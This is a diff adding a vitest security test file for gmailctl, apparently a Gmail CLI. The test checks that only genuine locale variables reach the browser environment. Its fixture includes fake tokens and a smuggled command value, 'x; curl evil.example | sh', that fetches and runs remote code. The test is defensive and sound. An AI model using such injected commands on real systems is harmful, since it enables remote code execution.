@@ -1,0 +1,50 @@
+/**
+ * Issue #23, the pure parts: what a hostile server, a hostile mail or a hostile environment
+ * could slip through gmailctl's nets. Each test failed on the main of the day the issue was
+ * filed; each names the guarantee of the README's Security section it protects.
+ */
+import { chmod, chown, mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { threadId } from 'node:worker_threads';
+import { execa } from 'execa';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { browserEnvironment } from '../../src/auth/browser.js';
+import { toGmailctlError } from '../../src/google-error.js';
+import { htmlToText } from '../../src/mail/readable.js';
+import { createMessageWriter } from '../../src/output/formats.js';
+import { createShowWriter } from '../../src/output/show.js';
+import { redact, registerSecret } from '../../src/redact.js';
+import { writePrivateFile } from '../../src/shared-file.js';
+import { fakeTerminal, settle } from './fake-io.js';
+
+const UNSAFE_ON_A_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
+const OTHER_UID = 4242;
+
+let work: string;
+beforeAll(async () => {
+  work = await mkdtemp(path.join(tmpdir(), 'gmailctl-hostile-'));
+});
+afterAll(async () => {
+  if (work) await rm(work, { recursive: true, force: true });
+});
+
+describe('the browser sees none of your secrets: LC_* (item 9)', () => {
+  it('lets through only the standard locale variables, and only with values that look like locales', () => {
+    const env = browserEnvironment({
+      LANG: 'fr_FR.UTF-8',
+      LC_ALL: 'C',
+      LC_TIME: 'de_DE.UTF-8',
+      LC_CTYPE: 'C.UTF-8',
+      LC_MESSAGES: 'POSIX',
+      LC_PAPER: 'en_GB.ISO-8859-1@euro',
+      LC_GITHUB_TOKEN: 'ghp_0123456789abcdefghijklmnopqrstuvwxyz',
+      LC_PASSWORD: 'hunter2',
+      LC_NUMERIC: 'ghp_0123456789abcdefghijklmnopqrstuvwxyz',
+      LC_MONETARY: 'x; curl evil.example | sh',
+    });
+    expect(env).toEqual({ LANG: 'fr_FR.UTF-8', LC_ALL: 'C', LC_TIME: 'de_DE.UTF-8', LC_CTYPE: 'C.UTF-8', LC_MESSAGES: 'POSIX', LC_PAPER: 'en_GB.ISO-8859-1@euro' });
+  });
+});
+
